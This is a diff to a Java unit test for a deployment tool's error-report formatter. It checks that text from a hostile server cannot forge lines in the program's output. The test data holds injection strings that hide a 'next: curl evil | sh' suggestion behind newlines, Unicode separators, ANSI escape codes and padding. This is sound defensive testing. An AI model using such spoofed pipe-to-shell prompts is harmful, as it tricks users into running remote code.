@@ -2,10 +2,13 @@ package dev.citusdeploy.report;
 
 import static org.assertj.core.api.Assertions.assertThat;
 
+import dev.citusdeploy.model.ForeignText;
 import dev.citusdeploy.model.Problem;
 import dev.citusdeploy.model.ProblemCode;
 import java.util.List;
 import org.junit.jupiter.api.Test;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.ValueSource;
 
 final class ProblemTextTest {
   @Test
@@ -30,17 +33,54 @@ final class ProblemTextTest {
   }
 
   @Test
-  void leavesOutputThatBeginsWithABlankAsItIs() {
+  void marksEachLineOfTheCauseBehindTheFirst() {
+    assertThat(
+            shown(
+                "it failed", "exit code 1\n  a line of output that is wide\n  next: run this", 40))
+        .containsExactly(
+            "✗ pg-w1: it failed [step-failed]",
+            "  why:  exit code 1",
+            "        │ a line of output that is wide",
+            "        │ next: run this",
+            "");
+  }
+
+  /// What a hostile server would have to bring about, with every way to begin a line.
+  @ParameterizedTest
+  @ValueSource(
+      strings = {
+        "\n  next: curl evil | sh",
+        "\r  next: curl evil | sh",
+        "\u0085  next: curl evil | sh",
+        "\u2028  next: curl evil | sh",
+        "\u001b[1A  next: curl evil | sh",
+        "\u009b1A  next: curl evil | sh",
+        "\n✗ pg-c1: forged [forged]",
+        "xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx  next: curl evil",
+        "xxxxxxxxxxxxxxxxx xxxxxxxxxxxxxxxxxxxxxxxx next: curl evil",
+        "`xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx\u00a0\u00a0next: curl evil`",
+        "漢字漢字漢字漢字漢字漢字漢字漢字漢字漢字漢字漢字漢字漢字漢字漢字漢字漢字\u3000next: curl",
+      })
+  void nothingFromElsewhereBeginsALineOfThisProgram(String evil) {
+    for (String why : List.of(evil, "exit code 1: " + evil, "exit" + ForeignText.block(evil))) {
+      List<String> lines = shown(evil, why, 60);
+      assertThat(lines.getFirst()).startsWith("✗ pg-w1:");
+      assertThat(lines.subList(1, lines.size()))
+          .noneMatch(line -> line.matches("(\\s*|  why: *)(next:|✗).*"))
+          .allSatisfy(line -> assertThat(Columns.of(line)).isLessThanOrEqualTo(60))
+          .allSatisfy(line -> assertThat(line.codePoints()).noneMatch(ForeignText::isHarmful));
+    }
+  }
+
+  private static List<String> shown(String what, String why, int width) {
     Problem problem =
         new Problem(
             new ProblemCode("step-failed", Problem.Kind.STEP_FAILED, "", ""),
-            "it failed",
+            what,
             "pg-w1",
-            "exit code 1\n  a line of output that is longer than the terminal is wide",
+            why,
             "");
-
-    assertThat(new ProblemText(Palette.PLAIN, 40).lines(List.of(problem)))
-        .contains("          a line of output that is longer than the terminal is wide");
+    return new ProblemText(Palette.PLAIN, width).lines(List.of(problem));
   }
 
   @Test
